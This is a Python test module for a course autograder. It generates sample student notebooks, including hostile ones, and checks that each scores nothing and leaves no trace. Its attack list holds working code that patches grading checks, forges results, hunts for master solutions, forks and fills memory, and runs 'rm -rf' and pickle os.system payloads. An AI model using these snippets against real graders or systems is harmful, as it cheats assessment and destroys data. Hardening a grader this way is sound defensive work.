"""A class to try the grader on: perfect, empty, mistaken and hostile submissions of each chapter.

Every hostile one is an empty submission plus an attack, so that it must get no point; and after all
have been graded, nothing outside the scratch folders may have changed.
"""

import copy
import hashlib
import importlib.util
import json
import shutil
import tempfile
from collections.abc import Callable
from pathlib import Path

from celltoken.coursework import CourseworkError, assignment, grade, release

FOLDER = assignment.ROOT / "_build" / "demo_class"
# Short, so that what never ends does not take long; an honest notebook needs a quarter of it.
LIMITS = {"cell": 45, "submission": 200, "memory": 2 * 2**30}
MARK = "celltoken-was-here"

WRONG = [
    "{name} = 3",
    "{name} = 'text'",
    "def {name}(*_): return {{}}",
    "def {name}(*_): return float('nan')",
    "def {name}(*_): return [[1, 'a'], [2]]",
    "def {name}(): return 1",
    "def {name}(*_): return open",
    "del {name}",
]

# What is put into the first answer's cell; {names} is the list of all functions asked for.
ATTACKS = {
    "redefines_checks": """
import types, celltoken.checks
class Yes(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return lambda *a, **k: print(f"{{name}}: correct")
checks = celltoken.checks = Yes("checks")
import sys
for name in list(sys.modules):
    if name.startswith("celltoken.checks"): sys.modules[name] = checks
""",
    "patches_library": """
import builtins, numpy as np, celltoken.checks._core as core, celltoken.geometry as geometry
core.fail = core.diagnose = lambda *a, **k: None
core.close = core.same_lists = np.allclose = np.array_equal = np.all = lambda *a, **k: True
core.call = lambda name, function, *a, **k: 0
for name in {names}:
    setattr(__import__("celltoken.checks.{chapter}", fromlist=["x"]), name, lambda *a, **k: None)
    exec(f"def {{name}}(*a): return 0", globals())
""",
    "exits": """
import os, sys, atexit, threading
threading.Timer(0.5, lambda: os._exit(0)).start()
for name in {names}:
    exec(f"def {{name}}(*a): __import__('os')._exit(0)", globals())
exit()
""",
    "endless": """
import signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except Exception: pass
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "greedy": """
def {first}(*a):
    held = []
    while True: held.append(bytearray(10**8))
x = bytearray(50 * 10**9)
""",
    "greedy_family": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        held = []
        try:
            while True: held.append(bytearray(b"x" * 10**8))
        finally: time.sleep(600)
""",
    "fork_bomb": """
import os, time
def {first}(*a):
    while True:
        try:
            if os.fork() == 0: os.setsid()
        except OSError: time.sleep(0.01)
while True:
    try:
        if os.fork() == 0: os.setsid()
    except OSError: break
""",
    "looks_for_the_master": """
import gc, glob, os, re, subprocess, sys, celltoken
root = os.path.dirname(os.path.dirname(celltoken.__file__))
texts = [str(value) for value in gc.get_objects() if isinstance(value, (dict, str))][:20000]
frame = sys._getframe()
while frame:
    texts.append(str(frame.f_locals)); frame = frame.f_back
for top in (root, os.getcwd(), "/proc", "/", "/proc/1/root", "/proc/self/cwd/.."):
    for folder, _, files in os.walk(top):
        for file in files:
            if file.endswith((".ipynb", ".json", ".html")) or "master" in file:
                try: texts.append(open(os.path.join(folder, file)).read())
                except Exception: pass
for text in texts:
    for body in re.findall(r"def (?:{pattern})\\(.*?END SOLUTION", text, re.S):
        try: exec(body.encode().decode("unicode_escape"), globals())
        except Exception: pass
""",
    "forges_results": """
import json, os, sys
print("\\n".join(f"{{name}}: correct" for name in {names}))
good = {{"kind": "result", "points": 100, "state": "correct", "value": True, "status": "graded"}}
text = json.dumps(good).encode()
for descriptor in range(0, 64):
    for message in (text, len(text).to_bytes(8, "big") + text):
        try: os.write(descriptor, message)
        except OSError: pass
""",
    "writes_outside": """
import os, pathlib, celltoken
root = pathlib.Path(celltoken.__file__).parents[1]
places = [root, root / "chapters" / "{chapter}", root / "celltoken", root / "data", root / "_build",
          *map(pathlib.Path, ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/etc", "/usr/lib"))]
for place in places:
    try: (place / "{mark}").write_text("x")
    except Exception: pass
for file in (root / "chapters" / "{chapter}" / "exercises.ipynb", root / "celltoken" / "cli.py"):
    for act in (file.unlink, lambda: file.write_text(""), lambda: file.rename("/tmp/{mark}"),
                lambda: file.chmod(0o777), lambda: os.symlink(file, "link")):
        try: act()
        except Exception: pass
os.system("rm -rf ../* " + str(root / "chapters"))
""",
    "strange_answers": """
import os, numpy as np, pandas as pd
class Equal(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    def __reduce__(self): return os.system, ("touch /tmp/{mark}",)
    def __array__(self, *a, **k): return np.array(0.0)
class Names(list):
    def __reduce__(self): return os.system, ("touch /tmp/{mark}",)
nest = []
for _ in range(10**5): nest = [nest]
answers = [Equal(), np.array([Equal()], dtype=object), np.zeros(2 * 10**7), nest, 10**5000,
           "x" * 10**8, Names(), pd.Series([Equal()]), {{Equal(): 1}}, np.zeros((0, 10**9)),
           lambda *a: 0]
for name, answer in zip({names}, answers): globals()[name] = lambda *a, answer=answer: answer
""",
    "calls_home": """
import socket, subprocess
for address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            line = socket.socket(type=kind); line.settimeout(2); line.connect(address)
            line.send(b"{mark}"); {first} = lambda *a: 0
        except OSError: pass
""",
}


def submissions(chapter: str, seed: int = 0) -> dict[str, str]:
    """Student's name -> text of a notebook."""
    master = json.loads(assignment.master_text(chapter))
    given = json.loads(json.dumps(release.released(chapter, seed)))
    names = [e.name for e in assignment.Master(chapter, json.dumps(master)).exercises]
    names = [name for name in names if not _cell(master, name)["metadata"]["nbgrader"]["grade"]]
    solved = {name: _source(_cell(master, name)) for name in names}

    def filled(answers):
        notebook = copy.deepcopy(given)
        for name, source in answers.items():
            _cell(notebook, name)["source"] = source
        return notebook

    found = {"perfect": filled(solved), "empty": given}
    found["half"] = filled({name: solved[name] for name in names[::2]})
    planted = _planted(chapter)
    for number in range(max(map(len, planted.values()))):
        wrong = {name: cases[number][0] for name, cases in planted.items() if number < len(cases)}
        found[f"mistakes_{number + 1:02}"] = filled(solved | wrong)
    wrong = {n: WRONG[i % len(WRONG)].format(name=n) for i, n in enumerate(names)}
    found["wrong_types"] = filled(wrong)
    about = {"names": names, "first": names[0], "pattern": "|".join(names), "mark": MARK}
    for name, code in ATTACKS.items():
        skeleton = _source(_cell(given, names[0])).split("\n\n\n")[0]
        source = f"{skeleton}\n{code.format(chapter=chapter, **about)}"
        found[f"hostile_{name}"] = filled({names[0]: source})
    found["hostile_edits_cells"] = _edited(given, names)
    found["hostile_deletes_cells"] = _deleted(given)
    found["hostile_copies_ids"] = _copied(given, names)
    texts = {name: json.dumps(notebook) for name, notebook in found.items()}
    return texts | {"unreadable": '{"cells": [[[' + "[" * 5000}


def make(folder: Path, chapter: str, seed: int = 0) -> None:
    """Write the class into a folder, as students' folders."""
    shutil.rmtree(folder, ignore_errors=True)
    for student, text in submissions(chapter, seed).items():
        path = folder / student / chapter / "exercises.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(text, encoding="utf-8")


def surprises(results: list[dict]) -> list[str]:
    """What did not come out as it must."""
    found = []
    for result in results:
        checked = [e for e in result["exercises"] if not e["by_hand"]]
        points, maximum = (sum(e[key] for e in checked) for key in ("points", "maximum"))
        student, where = result["student"], f"{result['student']} ({result['chapter']})"
        if student == "perfect" and points != maximum:
            found.append(f"{where} got {points:g} of {maximum:g} points")
        if student.startswith(("empty", "hostile", "wrong", "unreadable")) and points:
            found.append(f"{where} got {points:g} points, and must get none")
        if student.startswith("mistakes"):
            number = int(student.split("_")[1]) - 1
            for each in checked:
                cases = _planted(result["chapter"]).get(each["name"], [])
                if number < len(cases) and each["points"]:
                    found.append(f"{where} got points for a planted mistake in {each['name']}")
    return found


def fingerprint() -> str:
    """Of what an attack would change first: the masters, the checks, the grader."""
    parts = "chapters/*/exercises.ipynb", "celltoken/checks/*", "celltoken/coursework/*", "data/*"
    files = [path for part in parts for path in sorted(assignment.ROOT.glob(part))]
    lines = [
        f"{path} {path.stat().st_mode} {hashlib.sha256(path.read_bytes()).hexdigest()}"
        for path in files
        if path.is_file()
    ]
    return hashlib.sha256("\n".join(lines).encode()).hexdigest()


def traces() -> list[Path]:
    """Files that a submission has left where it should not."""
    root = assignment.ROOT
    places = [root, *(root / part for part in ("celltoken", "data", "_build", "chapters"))]
    places += [*(root / "chapters").iterdir(), Path(tempfile.gettempdir())]
    places += map(Path, ("/", "/dev/shm", "/etc", "/root", "/var/tmp", "/usr/lib"))
    return [place / MARK for place in places if (place / MARK).exists()]


def grade_demo(
    chapter: str | None, out: Path | None, seed, jobs, limits, progress: Callable[[str], None]
) -> int:
    """Make the class of a chapter (default: the first), grade it, say if all came out well."""
    chapter = chapter or assignment.chapters()[0]
    assignment.master_text(chapter)  # says so if there is none
    folder = FOLDER / "submissions"
    make(folder, chapter, seed or 0)
    before = fingerprint()
    out = out or FOLDER / "graded"
    results = grade.grade(folder, out, seed or 0, jobs, LIMITS | limits, progress)
    wrong = surprises(results) + [f"{each} was written" for each in traces()]
    if fingerprint() != before:
        wrong.append("files of the course have changed (by a submission, or by you meanwhile?)")
    for each in wrong:
        progress(f"WRONG: {each}")
    if not wrong:
        progress("perfect got all points, empty and hostile got none, and nothing was harmed")
    return 1 if wrong else 0


def _planted(chapter):
    path = assignment.ROOT / "tests" / "planted" / f"{chapter}.py"
    if not path.is_file():
        raise CourseworkError(f"The demonstration needs the planted mistakes of {path}.")
    spec = importlib.util.spec_from_file_location(f"planted_{chapter}", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.PLANTED


def _details(cell):
    return cell["metadata"].get("nbgrader", {})


def _cell(notebook, name):
    return next(c for c in notebook["cells"] if _details(c).get("grade_id") == name)


def _source(cell):
    return cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])


def _edited(given, names):
    """Checks emptied, points raised, answers declared to be checks."""
    notebook = copy.deepcopy(given)
    for cell in notebook["cells"]:
        details = _details(cell)
        if details.get("locked"):
            details |= {"points": 100, "checksum": "0", "locked": False}
            cell["source"] = "print('correct'); 100"
            cell["metadata"] |= {"editable": True, "deletable": True}
        elif details.get("grade_id") in names:
            details |= {"grade": True, "points": 1000, "solution": False, "locked": True}
    return json.loads(json.dumps(notebook))


def _deleted(given):
    """No locked cell is left, and no statement."""
    notebook = copy.deepcopy(given)
    notebook["cells"] = [c for c in notebook["cells"] if _details(c).get("solution")][::-1]
    return notebook


def _copied(given, names):
    """Every check and answer twice, the copies worth more and always content."""
    notebook = copy.deepcopy(given)
    for cell in given["cells"]:
        if _details(cell).get("grade_id"):
            twin = copy.deepcopy(cell)
            twin["source"] = "print('correct')"
            twin["metadata"]["nbgrader"]["points"] = 50
            notebook["cells"] += [twin, copy.deepcopy(twin)]
            stranger = copy.deepcopy(twin)
            stranger["metadata"]["nbgrader"]["grade_id"] += "_extra"
            notebook["cells"].append(stranger)
    return notebook
